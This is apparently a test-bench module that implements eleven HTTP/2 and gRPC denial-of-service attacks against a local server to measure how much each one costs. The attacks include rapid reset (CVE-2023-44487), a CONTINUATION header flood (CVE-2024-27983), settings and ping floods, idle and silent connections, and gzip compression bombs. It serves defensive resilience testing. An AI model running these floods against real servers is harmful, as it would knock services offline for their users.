// What a stranger can send. Each attack goes on until it has sent its share or was cut off, and leaves its
// connections open: what they cost is measured then. Sizes are for one round; `npm test` runs small ones.
import { gzipSync } from "node:zlib";
import { FLAG, frame, TYPE } from "../http2-frames.mjs";
import { Attacker, callHeaders, field, grpcMessage, uint32 } from "./raw-http2.mjs";

/**
 * What is attacked.
 * @typedef {object} Target
 * @property {number} port
 * @property {string} [host] where the attack comes from: an address of loopback
 * @property {string} path a unary method
 * @property {Readonly<Record<string, string>>} [headers] that a call needs
 * @property {() => Buffer} request a request that is answered
 */

const { DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION } = TYPE;
const CANCEL = uint32(8);
/** How many frames go out before the attacker looks whether it was cut off. */
const BATCH = 64;

/** Sends `count` of what `make` makes, for as long as the connection lasts. */
async function flood(attacker, count, make) {
  await attacker.connected;
  for (let sent = 0; sent < count && !attacker.isClosed; ) {
    const batch = [];
    for (; batch.length < BATCH && sent < count; sent++) batch.push(make(sent));
    attacker.send(...batch);
    await attacker.flushed();
  }
}

/** @type {Readonly<Record<string, (target: Target, size: number) => Promise<Attacker[]>>>} */
export const ATTACKS = {
  /** Streams that are opened, and nothing more. */
  "idle streams": async ({ port, host, path, headers }, size) => {
    const attacker = new Attacker(port, { host });
    const block = callHeaders(path, headers);
    await flood(attacker, size, () => frame(HEADERS, FLAG.END_HEADERS, attacker.stream(), block));
    return [attacker];
  },
  /** The same, within the limit of each of many connections. */
  "idle streams on many connections": async ({ port, host, path, headers }, size) => {
    const attackers = Array.from({ length: Math.ceil(size / 32) }, () => new Attacker(port, { host }));
    for (const attacker of attackers) {
      await attacker.connected;
      for (let i = 0; i < 32; i++) attacker.begin(path, headers);
    }
    return attackers;
  },
  /** Requests whose replies are not read: the window is closed. */
  "replies never read": async ({ port, host, path, headers, request }, size) => {
    const attackers = Array.from(
      { length: Math.ceil(size / 32) },
      () => new Attacker(port, { host, window: 0 }),
    );
    for (const attacker of attackers) {
      await attacker.connected;
      for (let i = 0; i < 32; i++)
        attacker.send(frame(DATA, FLAG.END_STREAM, attacker.begin(path, headers), grpcMessage(request())));
    }
    return attackers;
  },
  /** A long message, byte by byte. */
  "one-byte frames": async ({ port, host, path, headers }, size) => {
    const attackers = Array.from({ length: 4 }, () => new Attacker(port, { host }));
    await Promise.all(
      attackers.map(async (attacker) => {
        await attacker.connected;
        const streams = Array.from({ length: 32 }, () => attacker.begin(path, headers));
        const head = Buffer.concat([Buffer.of(0), uint32(16_000)]);
        for (const stream of streams) attacker.send(frame(DATA, 0, stream, head));
        await flood(attacker, size / 4, (i) => frame(DATA, 0, streams[i % 32], Buffer.of(1)));
      }),
    );
    return attackers;
  },
  /** Messages that end in the middle. */
  "half messages": async ({ port, host, path, headers, request }, size) => {
    const attackers = Array.from({ length: Math.ceil(size / 32) }, () => new Attacker(port, { host }));
    for (const attacker of attackers) {
      await attacker.connected;
      for (let i = 0; i < 32; i++) {
        const message = grpcMessage(request());
        attacker.send(frame(DATA, 0, attacker.begin(path, headers), message.subarray(0, message.length / 2)));
      }
    }
    return attackers;
  },
  /** Connections that say nothing. */
  "silent sockets": async ({ port, host }, size) => {
    const attackers = Array.from({ length: size }, () => new Attacker(port, { host, isSilent: true }));
    await Promise.all(attackers.map(({ connected, closed }) => Promise.race([connected, closed])));
    return attackers;
  },
  /** Calls that are cancelled as soon as they begin (CVE-2023-44487). */
  "rapid reset": async ({ port, host, path, headers }, size) => {
    const attacker = new Attacker(port, { host });
    const block = callHeaders(path, headers);
    await flood(attacker, size, () => {
      const stream = attacker.stream();
      return Buffer.concat([
        frame(HEADERS, FLAG.END_HEADERS, stream, block),
        frame(RST_STREAM, 0, stream, CANCEL),
      ]);
    });
    return [attacker];
  },
  /** A header block without an end (CVE-2024-27983). */
  "header flood": async ({ port, host, path }, size) => {
    const attacker = new Attacker(port, { host });
    await attacker.connected;
    attacker.send(frame(HEADERS, 0, attacker.stream(), callHeaders(path)));
    const more = field("x-flood", "a".repeat(1_000));
    await flood(attacker, size, () => frame(CONTINUATION, 0, 1, more));
    return [attacker];
  },
  /** Settings and pings, each of which wants an answer. */
  "settings flood": async ({ port, host }, size) => {
    const attacker = new Attacker(port, { host });
    await flood(attacker, size, (i) =>
      i % 2 === 0 ? frame(SETTINGS, 0, 0) : frame(PING, 0, 0, Buffer.alloc(8)),
    );
    return [attacker];
  },
  /** Calls with 60 KB of headers each. */
  "huge headers": async ({ port, host, path }, size) => {
    const attacker = new Attacker(port, { host });
    const blocks = [
      callHeaders(path),
      ...Array.from({ length: 60 }, (_, i) => field(`x-${i}`, "a".repeat(1_000))),
    ];
    const block = Buffer.concat(blocks);
    await flood(attacker, size, () => {
      const stream = attacker.stream();
      const parts = [];
      for (let at = 0; at < block.length; at += 16_000) {
        const isLast = at + 16_000 >= block.length;
        const part = block.subarray(at, at + 16_000);
        parts.push(frame(at === 0 ? HEADERS : CONTINUATION, isLast ? FLAG.END_HEADERS : 0, stream, part));
      }
      return Buffer.concat(parts);
    });
    return [attacker];
  },
  /** Compressed messages that unpack to a thousand times their size. */
  "compressed bombs": async ({ port, host, path, headers }, size) => {
    const attacker = new Attacker(port, { host });
    const bomb = grpcMessage(gzipSync(Buffer.alloc(10_000_000)), true);
    const block = callHeaders(path, { ...headers, "grpc-encoding": "gzip" });
    await flood(attacker, size, () => {
      const stream = attacker.stream();
      return Buffer.concat([
        frame(HEADERS, FLAG.END_HEADERS, stream, block),
        frame(DATA, FLAG.END_STREAM, stream, bomb),
      ]);
    });
    return [attacker];
  },
};

/** How much of each attack the bench sends: streams, frames, calls or connections. */
export const SIZES = Object.freeze({
  "idle streams": 50_000,
  "idle streams on many connections": 8_000,
  "replies never read": 8_000,
  "one-byte frames": 400_000,
  "half messages": 4_000,
  "silent sockets": 4_000,
  "rapid reset": 20_000,
  "header flood": 20_000,
  "settings flood": 50_000,
  "huge headers": 500,
  "compressed bombs": 500,
});
